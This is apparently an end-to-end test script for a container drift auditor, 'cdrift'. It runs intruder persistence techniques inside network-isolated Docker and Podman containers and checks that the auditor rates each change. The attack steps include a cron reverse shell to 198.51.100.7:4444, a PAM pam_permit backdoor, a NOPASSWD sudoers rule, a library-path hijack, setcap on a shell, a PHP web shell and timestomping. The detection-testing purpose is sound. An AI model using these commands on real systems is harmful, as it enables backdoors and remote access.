#!/usr/bin/env python3
"""Judgment on real runtimes: origin and severity of attack and operator techniques.

Builds a real Debian image locally (no registry, no network): the host's own dpkg
packages (dash, coreutils, sed, dpkg, libc-bin's ldconfig, python3, libcap2-bin's
setcap, PAM, login) copied with their dpkg database, plus a small package built here
with dpkg-deb (`cdrift-demo`: a PAM file and a program) installed at build time, and
USER app. Then, on docker and on podman, runs containers and does with real tools
inside them what intruders and operators do: cron, init.d, systemd and at
persistence, PAM and sudoers backdoors, an ld.so.conf.d hijack followed by ldconfig,
python startup hooks (.pth, sitecustomize), setcap, a rogue CA, a web shell, a
timestomped ELF, a world-writable /etc, root writing into /tmp of a non-root image,
a log file replaced by a 0700 directory, `dpkg -i` of a package with a setuid
program and `dpkg --purge` of the image's own package. Audits through `docker:NAME`
and through `podman export` + `podman save` (no runtime metadata), and asserts origin
and severity per change. Every check is tagged with the cause of issue 14 it covers;
the summary prints passes per cause, which is how the before/after figures were
taken (run it with the main branch's binary for "before").
A runtime that cannot start is SKIPPED loudly and counts as a failure unless
CDRIFT_ALLOW_RUNTIME_SKIP=1."""

import json
import os
import shutil
import signal
import subprocess
import sys
import tarfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import e2elib  # noqa: E402
from e2elib import describe  # noqa: E402

SCRIPT = os.path.join(e2elib.REPO, "scripts", "runtime-env.sh")
IMAGE = "cdrift-judgment:1"
BASE = "cdrift-judgment-base:1"
SEVERITY = ["info", "low", "medium", "high", "critical"]
# The host packages the image is made of (with their Depends/Pre-Depends closure).
PACKAGES = ["base-files", "dash", "bash", "coreutils", "sed", "grep", "findutils", "dpkg", "tar", "gzip",
            "libc-bin", "libcap2-bin", "python3-minimal", "libpam-runtime", "libpam-modules", "login",
            "passwd", "debianutils", "diffutils"]
CAUSES = {1: "origin weighs its evidence", 2: "type/owner/mode changes rated on what they are",
          3: "severity follows package evidence", 4: "package operations tell one story",
          5: "exports without runtime metadata", 6: "coverage (crontabs, ...)"}

s = e2elib.Suite(__doc__)
per_cause = {c: [0, 0] for c in CAUSES}


def terminate(signum, frame):
    raise KeyboardInterrupt("signal %d" % signum)


signal.signal(signal.SIGTERM, terminate)


def check(cause, name, ok, detail=""):
    per_cause[cause][0 if ok else 1] += 1
    return s.check("[cause %d] %s" % (cause, name), ok, detail)


def sev(name):
    return SEVERITY.index(name) if name in SEVERITY else -1


# ---------------------------------------------------------------------------- image

def installed_packages():
    out = subprocess.run(["dpkg-query", "-W", "-f", "${Package}\t${Status}\t${Pre-Depends}, ${Depends}\n"],
                         stdout=subprocess.PIPE, check=True).stdout.decode()
    pk = {}
    for line in out.splitlines():
        name, status, deps = line.split("\t")
        if status.endswith(" installed"):
            pk[name] = deps
    return pk


def closure(wanted):
    pk = installed_packages()
    todo, seen = list(wanted), set()
    while todo:
        p = todo.pop()
        if p in seen or p not in pk:
            continue
        seen.add(p)
        for dep in pk[p].split(","):
            for alt in dep.split("|"):
                name = alt.strip().split(" ")[0].split(":")[0]
                if name in pk:
                    todo.append(name)
                    break
    return sorted(seen)


def host_files(pkg):
    out = subprocess.run(["dpkg-query", "-L", pkg], stdout=subprocess.PIPE).stdout.decode()
    return [line for line in out.splitlines() if line.startswith("/") and line != "/."]


def canonical(path):
    """Where the host keeps a listed path (merged /usr: /bin/x is /usr/bin/x)."""
    return os.path.join(os.path.realpath(os.path.dirname(path)), os.path.basename(path))


def add_bytes(tf, name, data, mode=0o644, uid=0, gid=0, mtime=None):
    import io
    ti = tarfile.TarInfo(name.lstrip("/"))
    ti.size = len(data)
    ti.mode = mode
    ti.uid, ti.gid = uid, gid
    ti.mtime = mtime if mtime is not None else BUILD_TIME
    tf.addfile(ti, io.BytesIO(data))


def add_dir(tf, name, mode=0o755, uid=0, gid=0):
    ti = tarfile.TarInfo(name.lstrip("/"))
    ti.type = tarfile.DIRTYPE
    ti.mode = mode
    ti.uid, ti.gid = uid, gid
    ti.mtime = BUILD_TIME
    tf.addfile(ti)


BUILD_TIME = int(time.time()) - 30 * 86400


def ensure_parents(tf, path, seen):
    """Every member's directories get their own entry: docker import makes missing
    parents 0600, which no non-root USER can traverse."""
    parts = path.strip("/").split("/")[:-1]
    for i in range(1, len(parts) + 1):
        d = "/" + "/".join(parts[:i])
        if d not in seen:
            seen.add(d)
            add_dir(tf, d)

PASSWD = (b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
          b"bin:x:2:2:bin:/bin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
          b"nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\napp:x:1001:1001::/srv/app:/bin/sh\n")
GROUP = (b"root:x:0:\ndaemon:x:1:\nbin:x:2:\nshadow:x:42:\nwww-data:x:33:\nnogroup:x:65534:\napp:x:1001:\n")
SHADOW = b"root:*:19000:0:99999:7:::\napp:!:19000:0:99999:7:::\n"


def build_rootfs(path):
    pkgs = closure(PACKAGES)
    seen = set()
    status_out = subprocess.run(["dpkg-query", "-s"] + pkgs, stdout=subprocess.PIPE).stdout
    with tarfile.open(path, "w", format=tarfile.GNU_FORMAT) as tf:
        for top in ["bin", "lib", "lib64", "sbin"]:
            ti = tarfile.TarInfo(top)
            ti.type = tarfile.SYMTYPE
            ti.linkname = "usr/" + top
            ti.mtime = BUILD_TIME
            tf.addfile(ti)
            seen.add("/" + top)
        for d in ["/etc", "/usr", "/usr/bin", "/usr/lib", "/usr/lib64", "/usr/sbin", "/var", "/var/lib",
                  "/var/lib/dpkg", "/var/lib/dpkg/info", "/var/lib/dpkg/updates", "/var/lib/dpkg/alternatives",
                  "/var/log", "/var/cache", "/run", "/root", "/srv", "/var/www", "/var/www/html",
                  "/var/spool", "/var/spool/cron", "/etc/cron.d", "/etc/init.d", "/etc/systemd",
                  "/etc/systemd/system", "/etc/sudoers.d", "/etc/ssl", "/etc/ssl/certs",
                  "/usr/local", "/usr/local/bin", "/usr/local/lib", "/usr/local/lib/python3.11",
                  "/usr/local/lib/python3.11/dist-packages", "/etc/ld.so.conf.d", "/proc", "/sys", "/dev"]:
            add_dir(tf, d, mode=0o700 if d == "/root" else 0o755)
            seen.add(d)
        add_dir(tf, "/tmp", mode=0o1777)
        add_dir(tf, "/srv/app", uid=1001, gid=1001)
        seen.update(["/tmp", "/srv/app"])
        for name, data, mode in [("/etc/passwd", PASSWD, 0o644), ("/etc/group", GROUP, 0o644),
                                 ("/etc/shadow", SHADOW, 0o640),
                                 ("/etc/sudoers", b"root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n", 0o440),
                                 ("/etc/crontab", b"SHELL=/bin/sh\n", 0o644),
                                 ("/etc/ld.so.conf", b"include /etc/ld.so.conf.d/*.conf\n", 0o644),
                                 ("/etc/ssl/certs/ca-certificates.crt", b"", 0o644),
                                 ("/var/www/html/index.html", b"<h1>hi</h1>\n", 0o644),
                                 ("/var/log/auth.log", b"boot\n", 0o640),
                                 ("/var/lib/dpkg/status", status_out, 0o644),
                                 ("/var/lib/dpkg/available", b"", 0o644)]:
            add_bytes(tf, name, data, mode=mode)
            seen.add(name)
        for pkg in pkgs:
            for f in host_files(pkg):
                if f in seen:
                    continue
                real = canonical(f)
                dup = real in seen
                seen.add(f)
                if dup or not os.path.lexists(real):
                    continue
                ensure_parents(tf, real, seen)
                ti = tf.gettarinfo(real, arcname=real.lstrip("/"))
                seen.add(real)
                ti.uid, ti.gid, ti.uname, ti.gname = 0, 0, "", ""
                if ti.isreg():
                    with open(real, "rb") as fh:
                        tf.addfile(ti, fh)
                elif ti.isdir() or ti.issym():
                    tf.addfile(ti)
        # The database of exactly those packages (info/<pkg>.* with and without :amd64).
        info = "/var/lib/dpkg/info"
        for name in sorted(os.listdir(info)):
            if name.split(".")[0].split(":")[0] in pkgs:
                ti = tf.gettarinfo(os.path.join(info, name), arcname="var/lib/dpkg/info/" + name)
                ti.uid = ti.gid = 0
                with open(os.path.join(info, name), "rb") as fh:
                    tf.addfile(ti, fh)
        ldcache = "/etc/ld.so.cache"
        if os.path.exists(ldcache):
            with open(ldcache, "rb") as fh:
                add_bytes(tf, ldcache, fh.read())
    return pkgs


def build_deb(work, name, version, files, control_extra=""):
    """A real .deb made with dpkg-deb: files is [(path, bytes, mode)]."""
    root = os.path.join(work, "deb-" + name)
    shutil.rmtree(root, ignore_errors=True)
    os.makedirs(os.path.join(root, "DEBIAN"))
    for path, data, mode in files:
        full = os.path.join(root, path.lstrip("/"))
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "wb") as f:
            f.write(data)
        os.chmod(full, mode)
    with open(os.path.join(root, "DEBIAN", "control"), "w") as f:
        f.write("Package: %s\nVersion: %s\nArchitecture: amd64\nMaintainer: cdrift tests <t@example.org>\n"
                "Description: cdrift judgment test package\n%s" % (name, version, control_extra))
    out = os.path.join(work, "%s_%s_amd64.deb" % (name, version))
    subprocess.run(["dpkg-deb", "--root-owner-group", "-Zgzip", "--build", root, out], check=True,
                   stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    return out


def prepare(work):
    ctx = os.path.join(work, "ctx")
    shutil.rmtree(ctx, ignore_errors=True)
    os.makedirs(ctx)
    rootfs = os.path.join(work, "rootfs.tar")
    build_rootfs(rootfs)
    true_elf = open(os.path.realpath("/usr/bin/true"), "rb").read()
    build_deb(ctx, "cdrift-demo", "1.0-1",
              [("/etc/pam.d/cdrift-demo", b"auth required pam_unix.so\naccount required pam_unix.so\n", 0o644),
               ("/usr/bin/cdrift-demo", true_elf, 0o755),
               ("/usr/share/doc/cdrift-demo/README", b"demo\n", 0o644)])
    tool = build_deb(work, "cdrift-tool", "2.0-1",
                     [("/usr/bin/cdrift-tool", true_elf, 0o755),
                      ("/usr/bin/cdrift-suid", true_elf, 0o4755),
                      ("/usr/share/doc/cdrift-tool/README", b"tool\n", 0o644)])
    with open(os.path.join(ctx, "Dockerfile"), "w") as f:
        f.write("FROM %s\nCOPY cdrift-demo_1.0-1_amd64.deb /tmp/\n"
                "RUN dpkg -i /tmp/cdrift-demo_1.0-1_amd64.deb && rm /tmp/cdrift-demo_1.0-1_amd64.deb\n"
                "USER app\nWORKDIR /srv/app\n" % BASE)
    return rootfs, ctx, tool


# ---------------------------------------------------------------------------- runtimes

class Runtime:
    def __init__(self, name, env):
        self.name = name
        self.env = env
        self.archive = None
        self.counter = 0

    def cmd(self, *args, timeout=120, stdout=subprocess.PIPE):
        try:
            return subprocess.run([self.name] + [str(a) for a in args], env=self.env, stdout=stdout,
                                  stderr=subprocess.PIPE, timeout=timeout)
        except subprocess.TimeoutExpired:
            return subprocess.CompletedProcess(args, -999, b"", b"TIMEOUT")

    def ok(self, *args, **kw):
        r = self.cmd(*args, **kw)
        if r.returncode != 0:
            raise RuntimeError("%s %s: exit %s: %s" % (self.name, " ".join(map(str, args)), r.returncode,
                                                        r.stderr.decode(errors="replace").strip()[:400]))
        return r

    def root(self, c, script):
        return self.ok("exec", "-u", "0", c, "sh", "-c", script)

    def app(self, c, script):
        return self.ok("exec", c, "sh", "-c", script)


def start_runtime(name, state_dir):
    if os.geteuid() != 0:
        return None, "needs root"
    env = dict(os.environ)
    env["CDRIFT_RT_DIR"] = state_dir
    r = subprocess.run([SCRIPT, "start", name], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                       timeout=600)
    if r.returncode != 0:
        return None, "runtime-env.sh start %s failed: %s" % (name, r.stderr.decode(errors="replace")[-400:])
    for line in r.stdout.decode().splitlines():
        if line.startswith("export ") and "=" in line:
            k, v = line[len("export "):].split("=", 1)
            env[k] = v
    env["XDG_CACHE_HOME"] = os.path.join(s.work, "cache-" + name)
    return env, ""


def build_image(rt, rootfs, ctx):
    rt.ok("import", rootfs, BASE, timeout=300)
    env_build = dict(rt.env)
    if rt.name == "docker":
        env_build["DOCKER_BUILDKIT"] = "0"
    r = subprocess.run([rt.name, "build", "--network", "none", "-t", IMAGE, ctx], env=env_build,
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=300)
    if r.returncode != 0:
        raise RuntimeError("%s build failed: %s" % (rt.name, r.stderr.decode(errors="replace")[-600:]))
    rt.archive = os.path.join(s.work, "%s-save.tar" % rt.name)
    with open(rt.archive, "wb") as f:
        rt.ok(*(["save"] + (["--format", "docker-archive"] if rt.name == "podman" else []) + [IMAGE]),
              stdout=f, timeout=300)


def audit(rt, *args):
    cmd = [s.cdrift, "audit"] + list(args) + ["--format", "json", "--fail-on", "info", "--no-cache"]
    r = subprocess.run(cmd, env=rt.env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=300)
    try:
        return r, json.loads(r.stdout)
    except ValueError:
        return r, None


# ---------------------------------------------------------------------------- scenarios

def attack_steps(rt, c, work):
    """Intruder and operator techniques with real tools; returns the expectations."""
    # A host file copied in keeps its mtime (and with docker cp its owner).
    host_ca = os.path.join(work, "rogue-ca.crt")
    with open(host_ca, "w") as f:
        f.write("-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ2RyaWZ0IHRlc3QgQ0EgMDAwMDAwMDA=\n"
                "-----END CERTIFICATE-----\n")
    os.chown(host_ca, 1234, 5678)
    old = time.time() - 5 * 86400
    os.utime(host_ca, (old, old))
    rt.root(c, "mkdir -p /usr/local/share/ca-certificates")
    rt.ok("cp", host_ca, "%s:/usr/local/share/ca-certificates/rogue-ca.crt" % c)
    rt.root(c, "cat /usr/local/share/ca-certificates/rogue-ca.crt >> /etc/ssl/certs/ca-certificates.crt")
    rt.root(c, "echo '* * * * * root /bin/sh -c \"sh -i >& /dev/tcp/198.51.100.7/4444 0>&1\"' > /etc/cron.d/sync")
    rt.root(c, "mkdir -p /var/spool/cron/crontabs && echo '@reboot /tmp/.x' > /var/spool/cron/crontabs/root"
               " && chmod 600 /var/spool/cron/crontabs/root")
    rt.root(c, "mkdir -p /etc/crontabs && echo '*/5 * * * * /tmp/.x' > /etc/crontabs/root")
    rt.root(c, "mkdir -p /var/spool/cron/atjobs && printf '#!/bin/sh\\n/tmp/.x\\n' > /var/spool/cron/atjobs/a0001")
    rt.root(c, "printf '#!/bin/sh\\n/tmp/.x &\\n' > /etc/init.d/netfix && chmod 755 /etc/init.d/netfix")
    rt.root(c, "printf '[Service]\\nExecStart=/tmp/.x\\n' > /etc/systemd/system/netfix.service")
    rt.root(c, "sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/login")
    rt.root(c, "echo 'app ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/app && chmod 440 /etc/sudoers.d/app")
    rt.root(c, "mkdir -p /usr/local/lib/.l && cp /usr/lib/x86_64-linux-gnu/libcap.so.2 /usr/local/lib/.l/ && "
               "echo /usr/local/lib/.l > /etc/ld.so.conf.d/00-fix.conf && ldconfig")
    rt.root(c, "echo 'import os' > /usr/local/lib/python3.11/dist-packages/zz-hook.pth && "
               "echo 'import sys' > /usr/lib/python3.11/sitecustomize.py && python3 -c 'print(1)'")
    rt.root(c, "cp /bin/dash /usr/local/bin/dashcap && setcap cap_setuid+ep /usr/local/bin/dashcap")
    rt.root(c, "echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/shell.php")
    rt.root(c, "cat /bin/dash > /usr/bin/cdrift-demo && touch -d '2021-01-01 00:00:00' /usr/bin/cdrift-demo")
    rt.root(c, "chmod 0777 /etc")
    rt.root(c, "echo root-was-here > /tmp/root-note")
    rt.app(c, "echo app-cache > /tmp/app-cache")
    rt.root(c, "rm /var/log/auth.log && mkdir -m 0700 /var/log/auth.log")
    docker = rt.name == "docker"
    return {
        "/usr/local/share/ca-certificates/rogue-ca.crt": (6, "copied-in", "high", None),
        "/etc/ssl/certs/ca-certificates.crt": (6, "shell-edit", "high", None),
        "/etc/cron.d/sync": (6, "shell-edit", "high", None),
        "/var/spool/cron/crontabs/root": (6, "shell-edit", "high", None),
        "/etc/crontabs/root": (6, "shell-edit", "high", None),
        "/var/spool/cron/atjobs/a0001": (6, "shell-edit", "high", None),
        "/etc/init.d/netfix": (6, "shell-edit", "high", None),
        "/etc/systemd/system/netfix.service": (6, "shell-edit", "high", None),
        "/etc/pam.d/login": (3, "shell-edit", "high", None),
        "/etc/sudoers.d/app": (6, "shell-edit", "high", None),
        "/etc/ld.so.conf.d/00-fix.conf": (6, "shell-edit", "critical", None),
        "/usr/local/lib/python3.11/dist-packages/zz-hook.pth": (6, "shell-edit", "high", None),
        # Debian's /usr/lib/python3.11/sitecustomize.py is a symlink into /etc.
        "/etc/python3.11/sitecustomize.py": (6, "shell-edit", "high", None),
        "/usr/local/bin/dashcap": (6, "shell-edit", "critical", None),
        "/var/www/html/shell.php": (6, "shell-edit", "critical", None),
        # Rewritten in place, then dated back: its package did not change.
        "/usr/bin/cdrift-demo": (3, "shell-edit", "critical", None),
        "/etc": (6, "shell-edit", "high", None),
        # Root wrote into /tmp of an image that runs as app: not the application.
        "/tmp/root-note": (1, "shell-edit", None, "low"),
        "/tmp/app-cache": (1, "runtime-write", None, "low"),
        "/var/log/auth.log": (2, "shell-edit", "high", None),
    }, docker


def package_steps(rt, c, tool_deb):
    rt.ok("cp", tool_deb, "%s:/tmp/tool.deb" % c)
    rt.root(c, "dpkg -i /tmp/tool.deb >/dev/null && rm /tmp/tool.deb && dpkg --purge cdrift-demo >/dev/null")
    return {
        "/usr/bin/cdrift-tool": ("added", "package-manager", "medium", "cdrift-tool"),
        "/usr/bin/cdrift-suid": ("added", "package-manager", "high", "cdrift-tool"),
        "/usr/share/doc/cdrift-tool/README": ("added", "package-manager", "low", "cdrift-tool"),
        "/etc/pam.d/cdrift-demo": ("deleted", "package-manager", "low", "cdrift-demo"),
        "/usr/bin/cdrift-demo": ("deleted", "package-manager", "low", "cdrift-demo"),
        "/var/lib/dpkg/status": ("modified", "package-manager", "medium", None),
    }


PLACEHOLDERS = {".dockerenv", "run/.containerenv", "etc/hostname", "etc/hosts", "etc/resolv.conf", "etc/mtab"}


def strip_placeholders(src, dst):
    """An export with no runtime placeholder and no metadata at all (what a rootfs tar
    made by `podman mount` + tar, buildah or a CI step looks like): the same members,
    byte for byte, without the files that date the container."""
    with tarfile.open(src) as tin, tarfile.open(dst, "w", format=tarfile.GNU_FORMAT) as tout:
        for m in tin:
            if m.name.lstrip("./") in PLACEHOLDERS:
                continue
            tout.addfile(m, tin.extractfile(m) if m.isreg() else None)


def check_attacks(label, rep, expect, with_origin, origin_cause=None):
    got = {f["path"]: f for f in rep.get("findings", [])}
    for path, (cause, origin, severity, max_sev) in sorted(expect.items()):
        f = got.get(path)
        if not check(cause, "%s: %s reported" % (label, path), f is not None, "findings: %s" % sorted(got)):
            continue
        if severity:
            check(cause, "%s: %s is %s" % (label, path, severity), f["severity"] == severity,
                  "got %s (%s)" % (f["severity"], f["rule"]["id"]))
        if max_sev:
            check(cause, "%s: %s at most %s" % (label, path, max_sev), 0 <= sev(f["severity"]) <= sev(max_sev),
                  "got %s (%s)" % (f["severity"], f["rule"]["id"]))
        if with_origin:
            o = f.get("origin", {})
            check(origin_cause or (cause if cause != 6 else 1), "%s: %s origin %s" % (label, path, origin),
                  o.get("kind") == origin,
                  "got %s/%s: %s" % (o.get("kind"), o.get("confidence"), o.get("evidence")))


def check_packages(label, rep, expect, with_origin, origin_cause=None):
    got = {f["path"]: f for f in rep.get("findings", [])}
    for path, (change, origin, severity, package) in sorted(expect.items()):
        f = got.get(path)
        if not check(4, "%s: %s reported" % (label, path), f is not None, "findings: %s" % sorted(got)):
            continue
        check(3, "%s: %s is %s" % (label, path, severity), f["severity"] == severity,
              "got %s (%s)" % (f["severity"], f["rule"]["id"]))
        if with_origin:
            o = f.get("origin", {})
            check(origin_cause or 4, "%s: %s origin %s" % (label, path, origin), o.get("kind") == origin,
                  "got %s: %s" % (o.get("kind"), o.get("evidence")))
        ctx = f.get("context") or {}
        if package:
            check(4, "%s: %s context.package %s" % (label, path, package), ctx.get("package") == package,
                  "got %s" % ctx)
        if change == "deleted":
            check(4, "%s: %s context has no checksum verdict" % (label, path),
                  "package_checksum_ok" not in ctx or ctx.get("package_checksum_ok") is None, "got %s" % ctx)
    # Bookkeeping is info or low, and the operation is named once, on the database.
    book = [f for p, f in got.items() if p.startswith("/var/lib/dpkg/") and p != "/var/lib/dpkg/status"]
    check(4, "%s: %d dpkg bookkeeping findings, all info or low" % (label, len(book)),
          book and all(sev(f["severity"]) <= 1 for f in book),
          "got %s" % [(f["path"], f["severity"], f["rule"]["id"]) for f in book if sev(f["severity"]) > 1])
    st = got.get("/var/lib/dpkg/status")
    if st and with_origin:
        ev = " ".join(st.get("origin", {}).get("evidence", []))
        check(4, "%s: the status finding names the operation" % label,
              "installed cdrift-tool 2.0-1" in ev and "removed cdrift-demo 1.0-1" in ev, "evidence: %s" % ev)


def run_runtime(rt, tool_deb):
    label = rt.name
    c1 = "judg-attack-%d" % os.getpid()
    c2 = "judg-pkg-%d" % os.getpid()
    for c in (c1, c2):
        rt.cmd("rm", "-f", c)
        rt.ok("run", "-d", "--name", c, "--network", "none", IMAGE, "sleep", "100000")
    time.sleep(1.1)  # changes land in a later second than the container's creation
    expect, _ = attack_steps(rt, c1, s.work)
    pexpect = package_steps(rt, c2, tool_deb)
    for c, ex, fn in ((c1, expect, check_attacks), (c2, pexpect, check_packages)):
        r, rep = audit(rt, "--container", "%s:%s" % (rt.name, c))
        if s.check("%s %s via %s:NAME: JSON report" % (label, c, rt.name), rep is not None, describe(r)):
            fn("%s %s:NAME" % (label, rt.name), rep, ex, True)
        tar = os.path.join(s.work, "%s-%s.tar" % (rt.name, c))
        with open(tar, "wb") as f:
            rt.ok("export", c, stdout=f)
        r, rep = audit(rt, "--image", "docker-archive:" + rt.archive, "--container", tar)
        if s.check("%s %s via export: JSON report" % (label, c), rep is not None, describe(r)):
            # podman's export has no placeholder with a time: the origin must come from the
            # image's build time, owners, directories and clusters (cause 5).
            fn("%s export" % label, rep, ex, True)
        with open(os.path.join(s.work, "%s-%s.json" % (rt.name, c)), "wb") as f:
            f.write(r.stdout)
        bare = os.path.join(s.work, "%s-%s-bare.tar" % (rt.name, c))
        strip_placeholders(tar, bare)
        r, rep = audit(rt, "--image", "docker-archive:" + rt.archive, "--container", bare)
        if s.check("%s %s via an export without placeholders: JSON report" % (label, c), rep is not None,
                   describe(r)):
            fn("%s bare export" % label, rep, ex, True, origin_cause=5)
            # The scenario's own changes (a deleted /etc/hostname the build left in the
            # image is the stripping's doing, and honestly unknown).
            unknown = [f["path"] for f in rep.get("findings", []) if f["origin"]["kind"] == "unknown"
                       and f["path"] in ex]
            check(5, "%s bare export: no scenario change of origin unknown (%d)" % (label, len(ex)),
                  not unknown, "unknown: %s" % unknown)
            with open(os.path.join(s.work, "%s-%s-bare.json" % (rt.name, c)), "wb") as f:
                f.write(r.stdout)
    for c in (c1, c2):
        rt.cmd("rm", "-f", c)


def main():
    # Short and private by default (unix socket paths are limited to 107 bytes); a given
    # CDRIFT_RT_DIR with CDRIFT_RT_KEEP=1 reuses running daemons between runs.
    own_state = not os.environ.get("CDRIFT_RT_DIR")
    state = os.environ.get("CDRIFT_RT_DIR") or "/tmp/cdrift-judgment-rt-%d" % os.getpid()
    rootfs, ctx, tool_deb = prepare(s.work)
    started = []
    try:
        for name in ("docker", "podman"):
            env, why = start_runtime(name, state)
            if env is None:
                if os.environ.get("CDRIFT_ALLOW_RUNTIME_SKIP") == "1":
                    print("SKIPPED %s: %s" % (name, why))
                else:
                    s.check("%s runtime starts" % name, False, why)
                continue
            started.append(env)
            rt = Runtime(name, env)
            try:
                build_image(rt, rootfs, ctx)
                run_runtime(rt, tool_deb)
            except RuntimeError as e:
                s.check("%s scenarios run" % name, False, str(e))
    finally:
        env = dict(os.environ)
        env["CDRIFT_RT_DIR"] = state
        if not os.environ.get("CDRIFT_RT_KEEP"):
            subprocess.run([SCRIPT, "stop"], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120)
            if own_state:
                shutil.rmtree(state, ignore_errors=True)
    for cause, (ok, bad) in sorted(per_cause.items()):
        print("cause %d (%s): %d of %d checks right" % (cause, CAUSES[cause], ok, ok + bad))
    s.finish()


main()
